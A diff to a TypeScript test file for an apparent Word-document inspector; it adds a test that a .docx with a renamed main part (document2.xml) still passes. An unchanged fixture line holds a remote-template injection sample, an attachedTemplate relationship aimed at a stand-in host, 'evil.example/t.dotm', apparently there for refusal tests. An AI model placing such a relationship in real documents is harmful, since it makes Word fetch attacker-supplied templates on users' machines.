@@ -24,6 +24,15 @@ const problemOf = async (content: Buffer) => {
   const found = await inspectDocument(sourceOf(content));
   return found.outcome === 'refused' ? found.problem : found.format;
 };
+
+test('a Word document passes whose main part has a number, as Word for the web writes it', async () => {
+  const renamed = WORD_PARTS.map(({ name, content }) => ({
+    name: name.replace('document.xml', 'document2.xml'),
+    content: String(content).replace('document.xml', 'document2.xml'),
+  }));
+  expect(await problemOf(makeZip(renamed))).toBe('docx');
+});
+
 const TEMPLATE =
   'Type="http://x/relationships/attachedTemplate" Target="https://evil.example/t.dotm"';
 
